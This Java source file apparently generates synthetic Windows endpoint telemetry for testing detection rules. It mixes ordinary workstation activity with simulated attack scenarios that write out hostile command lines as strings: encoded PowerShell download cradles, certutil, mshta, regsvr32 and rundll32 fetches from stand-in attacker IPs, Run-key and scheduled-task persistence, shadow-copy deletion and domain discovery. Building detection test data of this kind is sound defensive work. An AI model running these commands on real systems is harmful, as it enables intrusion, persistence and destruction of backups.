package dev.vigil.generator;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;

/**
 * The Windows activity the generator plays: a user's day on a workstation (browser, Office, Teams,
 * downloads), service hosts and scheduled tasks, Windows Update and MSI installs with their
 * registry writes, an administrator's cmd and PowerShell, and, at the configured rate, the
 * suspicious scenarios Elastic's Windows rules look for: encoded PowerShell from an Office
 * document, certutil, mshta, regsvr32 and rundll32 used as download cradles (LOLBins), Run-key and
 * scheduled-task persistence, shadow-copy deletion and domain discovery.
 */
final class WindowsScenarios {
  private static final String SYSTEM32 = "C:\\Windows\\System32\\";

  private static final WindowsImage CMD = WindowsImage.system(SYSTEM32 + "cmd.exe", "Cmd.Exe");
  private static final WindowsImage POWERSHELL =
      WindowsImage.system(SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE");
  private static final WindowsImage CHROME =
      WindowsImage.vendor(
          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          "chrome.exe",
          "Google LLC",
          "Google LLC");
  private static final WindowsImage WORD =
      WindowsImage.vendor(
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
          "WinWord.exe",
          "Microsoft Corporation",
          "Microsoft Corporation");
  private static final WindowsImage OUTLOOK =
      WindowsImage.vendor(
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
          "Outlook.exe",
          "Microsoft Corporation",
          "Microsoft Corporation");
  private static final WindowsImage TEAMS =
      WindowsImage.vendor(
          "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe",
          "ms-teams.exe",
          "Microsoft Corporation",
          "Microsoft Corporation");
  private static final WindowsImage MSIEXEC =
      WindowsImage.system(SYSTEM32 + "msiexec.exe", "msiexec.exe");

  private static final List<String> ATTACKER_IPS =
      List.of("203.0.113.77", "203.0.113.140", "198.51.100.23", "198.51.100.201", "192.0.2.66");
  private static final List<String> SITES =
      List.of(
          "www.office.com",
          "login.microsoftonline.com",
          "outlook.office365.com",
          "teams.microsoft.com",
          "intranet.corp.example",
          "github.com",
          "www.google.com",
          "update.googleapis.com");

  /** The names of the suspicious scenarios, as written in {@code labels.vigil_scenario}. */
  static final List<String> SUSPICIOUS =
      List.of(
          "windows_encoded_powershell",
          "windows_certutil_download",
          "windows_mshta_remote",
          "windows_regsvr32_scriptlet",
          "windows_rundll32_javascript",
          "windows_run_key_persistence",
          "windows_scheduled_task_persistence",
          "windows_shadow_copy_deletion",
          "windows_domain_discovery");

  private WindowsScenarios() {}

  static void plan(WindowsScript s, boolean suspicious) {
    if (suspicious) {
      planSuspicious(s);
      return;
    }
    int roll = s.pick.below(100);
    if (s.host.workstation && roll < 45) {
      userApplication(s);
    } else if (roll < 65) {
      scheduledTask(s);
    } else if (roll < 80) {
      serviceLookups(s);
    } else if (roll < 90) {
      adminShell(s);
    } else {
      windowsUpdate(s);
    }
  }

  private static void planSuspicious(WindowsScript s) {
    switch (s.scenario()) {
      case "windows_encoded_powershell" -> encodedPowerShell(s);
      case "windows_certutil_download" -> certutilDownload(s);
      case "windows_mshta_remote" ->
          lolbin(s, "mshta.exe", "MSHTA.EXE", "mshta.exe http://%s/update.hta");
      case "windows_regsvr32_scriptlet" ->
          lolbin(
              s,
              "regsvr32.exe",
              "REGSVR32.EXE",
              "regsvr32.exe /s /n /u /i:http://%s/file.sct scrobj.dll");
      case "windows_rundll32_javascript" ->
          lolbin(
              s,
              "rundll32.exe",
              "RUNDLL32.EXE",
              "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://%s/r.sct\")");
      case "windows_run_key_persistence" -> runKeyPersistence(s);
      case "windows_scheduled_task_persistence" -> scheduledTaskPersistence(s);
      case "windows_shadow_copy_deletion" -> shadowCopyDeletion(s);
      case "windows_domain_discovery" -> domainDiscovery(s);
      default -> throw new IllegalArgumentException("unknown scenario " + s.scenario());
    }
  }

  // ------------------------------------------------------------------ ordinary activity

  private static void userApplication(WindowsScript s) {
    WindowsHost host = s.host;
    WindowsImage image = s.pick.of(CHROME, OUTLOOK, TEAMS, WORD);
    WindowsProcess app = s.start(host.explorer, image, "\"" + image.executable() + "\"");
    s.pause(200, 3000);
    int lookups = s.pick.between(1, 3);
    for (int i = 0; i < lookups; i++) {
      String site = s.pick.of(SITES);
      String ip =
          site.endsWith(".example")
              ? "10.1.0.20"
              : "52."
                  + s.pick.between(96, 120)
                  + "."
                  + s.pick.below(256)
                  + "."
                  + s.pick.between(1, 254);
      s.resolve(host.svchostDnscache, site, ip);
      Connection connection = s.connect(app, ip, 443);
      s.pause(100, 20_000);
      s.disconnect(app, connection);
    }
    String profile = "C:\\Users\\" + host.user.name();
    if (image == CHROME && s.pick.chance(0.3)) {
      String download =
          profile
              + "\\Downloads\\"
              + s.pick.of("report", "invoice", "slides", "setup")
              + "-"
              + s.pick.between(1, 99);
      s.create(app, download + ".crdownload");
      s.pause(200, 4000);
      s.rename(app, download + ".crdownload", download + s.pick.of(".pdf", ".xlsx", ".zip"));
    } else {
      s.modify(app, profile + "\\AppData\\Local\\Temp\\" + s.pick.alphanumeric(8) + ".tmp");
    }
    s.setValue(
        host.explorer,
        new RegistryValue(
            "HKEY_USERS",
            host.user.sid()
                + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
            "MRUListEx",
            "0x" + s.pick.hex(8),
            "REG_BINARY"));
    s.pause(1000, 60_000);
    s.end(app);
  }

  private static void scheduledTask(WindowsScript s) {
    WindowsHost host = s.host;
    WindowsProcess task;
    switch (s.pick.below(3)) {
      case 0 ->
          task =
              s.start(
                  host.svchostNetsvcs,
                  WindowsImage.system(SYSTEM32 + "taskhostw.exe", "taskhostw.exe"),
                  "taskhostw.exe Install $(Arg0)");
      case 1 ->
          task =
              s.start(
                  host.svchostNetsvcs,
                  WindowsImage.vendor(
                      "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
                      "msedgeupdate.dll",
                      "Microsoft Corporation",
                      "Microsoft Corporation"),
                  "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua /installsource scheduler");
      default ->
          task =
              s.start(
                  host.svchostNetsvcs,
                  WindowsImage.system(SYSTEM32 + "sc.exe", "sc.exe"),
                  "C:\\Windows\\system32\\sc.exe start wuauserv");
    }
    s.pause(100, 3000);
    if (task.name.startsWith("MicrosoftEdgeUpdate")) {
      s.resolve(
          host.svchostDnscache,
          "msedge.api.cdp.microsoft.com",
          "13.107.246." + s.pick.between(1, 254));
      Connection connection = s.connect(task, "13.107.246." + s.pick.between(1, 254), 443);
      s.pause(100, 1500);
      s.disconnect(task, connection);
    }
    s.end(task);
  }

  private static void serviceLookups(WindowsScript s) {
    WindowsHost host = s.host;
    String name =
        s.pick.of(
            "dc01.corp.example",
            "fs01.corp.example",
            "wpad.corp.example",
            "settings-win.data.microsoft.com",
            "ctldl.windowsupdate.com");
    String ip =
        name.endsWith(".example")
            ? "10.1.0." + s.pick.between(2, 30)
            : "20.190." + s.pick.below(256) + "." + s.pick.between(1, 254);
    s.resolve(host.svchostDnscache, name, ip);
    Connection connection = s.connect(host.svchostNetsvcs, ip, name.startsWith("dc01") ? 389 : 443);
    s.pause(20, 2000);
    s.disconnect(host.svchostNetsvcs, connection);
    if (s.pick.chance(0.3)) {
      s.modify(
          host.svchostNetsvcs,
          "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan");
    }
  }

  private static void adminShell(WindowsScript s) {
    WindowsHost host = s.host;
    WindowsProcess parent = host.workstation ? host.explorer : host.svchostNetsvcs;
    if (s.pick.chance(0.5)) {
      WindowsProcess cmd = s.start(parent, CMD, "\"C:\\Windows\\system32\\cmd.exe\"");
      s.pause(1000, 8000);
      for (String line :
          List.of("ipconfig /all", "ping -n 2 fs01.corp.example", "gpupdate /force")) {
        String exe = line.substring(0, line.indexOf(' '));
        WindowsProcess child =
            s.start(
                cmd,
                WindowsImage.system(SYSTEM32 + exe + ".exe", exe.toUpperCase(Locale.ROOT) + ".EXE"),
                line);
        s.pause(100, 3000);
        if (exe.equals("gpupdate")) {
          s.setValue(
              host.svchostNetsvcs,
              new RegistryValue(
                  "HKLM",
                  "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Group Policy\\State\\Machine\\Extension-List\\{00000000-0000-0000-0000-000000000000}",
                  "EndTimeLo",
                  Integer.toString(s.pick.below(Integer.MAX_VALUE)),
                  "REG_DWORD"));
        }
        s.end(child);
        s.pause(1000, 10_000);
      }
      s.end(cmd);
    } else {
      WindowsProcess powershell =
          s.start(
              parent,
              POWERSHELL,
              "powershell.exe -NoProfile -Command \"Get-Service | Where-Object Status -eq 'Running' | Select-Object -First 20\"");
      s.pause(500, 4000);
      s.create(
          powershell,
          "C:\\Users\\"
              + host.user.name()
              + "\\AppData\\Local\\Temp\\__PSScriptPolicyTest_"
              + s.pick.alphanumeric(8)
              + ".ps1");
      s.end(powershell);
    }
  }

  private static void windowsUpdate(WindowsScript s) {
    WindowsHost host = s.host;
    String product =
        s.pick.of(
            "Microsoft Teams Meeting Add-in", "Google Chrome", "7-Zip 24.08", "Zoom Workplace");
    String guid =
        "{"
            + s.pick.hex(8).toUpperCase(Locale.ROOT)
            + "-"
            + s.pick.hex(4).toUpperCase(Locale.ROOT)
            + "-"
            + s.pick.hex(4).toUpperCase(Locale.ROOT)
            + "-"
            + s.pick.hex(4).toUpperCase(Locale.ROOT)
            + "-"
            + s.pick.hex(12).toUpperCase(Locale.ROOT)
            + "}";
    WindowsProcess installer =
        s.start(
            host.services,
            MSIEXEC,
            "C:\\Windows\\system32\\msiexec.exe /V",
            WindowsUser.SYSTEM,
            "system");
    s.pause(200, 2000);
    String msi = "C:\\Windows\\Installer\\" + s.pick.hex(5) + ".msi";
    s.create(installer, msi);
    WindowsProcess custom =
        s.start(
            installer,
            MSIEXEC,
            "C:\\Windows\\syswow64\\MsiExec.exe -Embedding "
                + s.pick.hex(32).toUpperCase(Locale.ROOT)
                + " E Global\\MSI0000");
    s.pause(500, 5000);
    String folder = "C:\\Program Files\\" + product.split(" ")[0];
    s.create(
        installer,
        folder + "\\" + s.pick.of("app.dll", "update.exe", "resources.pak", "license.txt"));
    s.setValue(
        installer,
        new RegistryValue(
            "HKLM",
            "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\" + guid,
            "DisplayName",
            product,
            "REG_SZ"));
    s.setValue(
        installer,
        new RegistryValue(
            "HKLM",
            "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\" + guid,
            "InstallLocation",
            folder,
            "REG_SZ"));
    s.end(custom);
    s.pause(200, 3000);
    s.delete(installer, msi);
    s.end(installer);
  }

  // ------------------------------------------------------------------ suspicious activity

  private static void encodedPowerShell(WindowsScript s) {
    WindowsHost host = s.host;
    String attacker = s.pick.of(ATTACKER_IPS);
    WindowsProcess word =
        s.start(
            host.explorer,
            WORD,
            "\""
                + WORD.executable()
                + "\" /n \"C:\\Users\\"
                + host.user.name()
                + "\\Downloads\\Invoice_"
                + s.pick.between(1000, 9999)
                + ".docm\" /o \"\"");
    s.pause(2000, 20_000);
    String script = "IEX (New-Object Net.WebClient).DownloadString('http://" + attacker + "/a')";
    String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    WindowsProcess cmd =
        s.start(word, CMD, "cmd.exe /c powershell.exe -nop -w hidden -enc " + encoded);
    s.tick();
    WindowsProcess powershell =
        s.start(cmd, POWERSHELL, "powershell.exe -nop -w hidden -enc " + encoded);
    s.pause(300, 2000);
    Connection connection = s.connect(powershell, attacker, 80);
    s.pause(200, 3000);
    s.disconnect(powershell, connection);
    s.end(powershell);
    s.end(cmd);
    s.end(word);
  }

  private static void certutilDownload(WindowsScript s) {
    WindowsHost host = s.host;
    String attacker = s.pick.of(ATTACKER_IPS);
    String target = "C:\\Users\\Public\\" + s.pick.alphanumeric(6) + ".exe";
    WindowsProcess cmd = s.start(host.explorer, CMD, "\"C:\\Windows\\system32\\cmd.exe\"");
    s.pause(1000, 5000);
    WindowsProcess certutil =
        s.start(
            cmd,
            WindowsImage.system(SYSTEM32 + "certutil.exe", "CertUtil.exe"),
            "certutil.exe -urlcache -split -f http://" + attacker + "/p.exe " + target);
    Connection connection = s.connect(certutil, attacker, 80);
    s.pause(200, 2000);
    s.create(certutil, target);
    s.disconnect(certutil, connection);
    s.end(certutil);
    s.pause(1000, 5000);
    WindowsProcess implant = s.start(cmd, WindowsImage.unsigned(target), target);
    s.pause(100, 1000);
    Connection beacon = s.connect(implant, attacker, 443);
    s.pause(5000, 60_000);
    s.disconnect(implant, beacon);
    s.end(implant);
    s.end(cmd);
  }

  private static void lolbin(WindowsScript s, String exe, String originalName, String template) {
    WindowsHost host = s.host;
    String attacker = s.pick.of(ATTACKER_IPS);
    WindowsProcess process =
        s.start(
            host.explorer,
            WindowsImage.system(SYSTEM32 + exe, originalName),
            String.format(template, attacker));
    s.pause(200, 2000);
    Connection connection = s.connect(process, attacker, 80);
    s.pause(200, 2000);
    s.disconnect(process, connection);
    s.end(process);
  }

  private static void runKeyPersistence(WindowsScript s) {
    WindowsHost host = s.host;
    String payload =
        "C:\\Users\\Public\\" + s.pick.of("OneDriveUpdater", "svchosts", "AdobeSync") + ".exe";
    String name = s.pick.of("Updater", "OneDrive Sync", "Adobe Helper");
    WindowsProcess reg =
        s.start(
            host.explorer,
            WindowsImage.system(SYSTEM32 + "reg.exe", "reg.exe"),
            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \""
                + name
                + "\" /t REG_SZ /d "
                + payload
                + " /f");
    s.pause(10, 100);
    s.setValue(
        reg,
        new RegistryValue(
            "HKEY_USERS",
            host.user.sid() + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            name,
            payload,
            "REG_SZ"));
    s.end(reg);
  }

  private static void scheduledTaskPersistence(WindowsScript s) {
    WindowsHost host = s.host;
    String task =
        s.pick.of(
            "MicrosoftEdgeUpdateTaskCore", "GoogleUpdateTaskMachine", "OneDrive Standalone Update");
    WindowsProcess cmd = s.start(host.explorer, CMD, "\"C:\\Windows\\system32\\cmd.exe\"");
    s.pause(500, 3000);
    WindowsProcess schtasks =
        s.start(
            cmd,
            WindowsImage.system(SYSTEM32 + "schtasks.exe", "schtasks.exe"),
            "schtasks.exe /create /sc minute /mo 15 /tn \""
                + task
                + "\" /tr C:\\Users\\Public\\upd.exe /f");
    s.pause(20, 200);
    s.create(host.svchostNetsvcs, "C:\\Windows\\System32\\Tasks\\" + task);
    s.end(schtasks);
    s.end(cmd);
  }

  private static void shadowCopyDeletion(WindowsScript s) {
    WindowsHost host = s.host;
    WindowsProcess cmd =
        s.start(
            host.explorer,
            CMD,
            "cmd.exe /c vssadmin.exe delete shadows /all /quiet",
            host.user,
            "high");
    s.tick();
    WindowsProcess vssadmin =
        s.start(
            cmd,
            WindowsImage.system(SYSTEM32 + "vssadmin.exe", "VSSADMIN.EXE"),
            "vssadmin.exe delete shadows /all /quiet");
    s.pause(200, 2000);
    s.end(vssadmin);
    s.end(cmd);
  }

  private static void domainDiscovery(WindowsScript s) {
    WindowsHost host = s.host;
    WindowsProcess cmd = s.start(host.explorer, CMD, "\"C:\\Windows\\system32\\cmd.exe\"");
    for (String line :
        List.of(
            "whoami /all", "net group \"domain admins\" /domain", "nltest /dclist:corp.example")) {
      s.pause(1000, 8000);
      String exe = line.substring(0, line.indexOf(' '));
      WindowsProcess child =
          s.start(cmd, WindowsImage.system(SYSTEM32 + exe + ".exe", exe + ".exe"), line);
      s.pause(50, 1000);
      s.end(child);
    }
    s.end(cmd);
  }
}
